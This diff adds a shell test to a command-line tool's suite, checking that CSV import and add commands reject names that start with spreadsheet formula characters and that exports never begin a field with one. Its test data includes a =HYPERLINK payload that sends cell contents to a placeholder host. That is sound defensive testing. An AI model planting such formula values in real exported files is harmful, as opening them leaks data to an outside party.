@@ -203,3 +203,20 @@ t_import_report_lines_cannot_be_forged() {
 	eq "$(printf '%s\n' "$ERR" | grep -c 'line 99')" 1
 	eq "$(printf '%s\n' "$ERR" | grep -c $'\r')" 0
 }
+
+t_export_cannot_carry_a_formula() {
+	setup_org || return 1
+	# An exported name that starts with = + - @ runs as a formula when the
+	# CSV is opened in a spreadsheet (=HYPERLINK(...) sends data away).
+	printf 'id,name,unit\nF1,"=HYPERLINK(""http://x.example/?""&A1,""x"")",HQ\nF2,+1+1,HQ\nF3,-2+3,HQ\nF4,@SUM(1),HQ\nG1,Ann-Marie =,HQ\n' >f.csv
+	expect 65 import persons f.csv || return 1
+	has_err "4 problems"
+	has_err "line 2, column name"
+	has_err "line 5, column name"
+	expect 65 person add F5 --name "=1+1" --unit HQ || return 1
+	expect 65 unit add F6 --name "@cmd" || return 1
+	expect 65 post add F7 --unit HQ --level 1 --title "+x" || return 1
+	expect 0 person add G2 --name "Ann-Marie =" --unit HQ || return 1
+	"$BAOMI" export persons >out.csv || fail "export"
+	! grep -qE '(^|,)"?[=+@-]' out.csv || fail "a field of the export starts a formula"
+}
